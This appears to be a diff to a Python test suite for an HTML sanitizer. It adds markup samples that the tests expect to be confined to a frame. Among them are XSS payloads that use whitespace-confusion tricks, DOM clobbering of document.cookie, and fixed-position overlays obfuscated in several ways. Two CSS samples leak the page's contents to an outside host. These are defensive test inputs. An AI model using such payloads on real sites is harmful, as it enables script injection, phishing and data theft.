@@ -39,6 +39,7 @@ SVG = (
         "<input class='xr-section' type='checkbox' checked disabled><label for='s'>Dimensions</label>",
         "<pre style=\"white-space:pre;font-family:Menlo,'DejaVu Sans Mono',monospace\">x</pre>",
         '<a href="#top">up</a> <a href="mailto:a@b.org">mail</a>',
+        "<style scoped>table { table-layout: fixed; fill: url('#a'); }</style><td>C:\\fixed</td>",
     ],
 )
 def test_markup_that_cannot_run_is_inert(markup: str) -> None:
@@ -98,6 +99,23 @@ def test_markup_that_cannot_run_is_inert(markup: str) -> None:
         "<rdf:script>alert(1)</rdf:script>",
         "<custom-element>",
         "<p contenteditable>",
+        # what Python takes for space, and HTML for part of a name or value
+        "<a title=x\xa0y=' onmouseover=alert(1) '>x</a>",
+        "<img title=x\x0by=' src=1 onerror=alert(1) '>",
+        "<img\u2003title=' src=1 onerror=alert(1) '>",
+        # the page's own document.cookie would be this picture
+        "<img name=cookie src=x>",
+        "<image name=cookie src=x>",
+        # over the whole page
+        "<div style='position: fixed; inset: 0'>Password:</div>",
+        "<div style='position:/**/FIXED'>x</div>",
+        "<div style='position:f&#105;xed'>x</div>",
+        "<div style='position:f\\69xed'>x</div>",
+        "<div style='--x:fixed;position:var(--x)'>x</div>",
+        "<style>body::before { position: fixed; content: 'x' }</style>",
+        # tells another host what the page holds
+        "<style>@import '//x.org/a.css';</style>",
+        "<style>input[value^=a] { background: url(//x.org/a) }</style>",
     ],
 )
 def test_markup_that_might_run_is_shut_into_a_frame(markup: str) -> None:
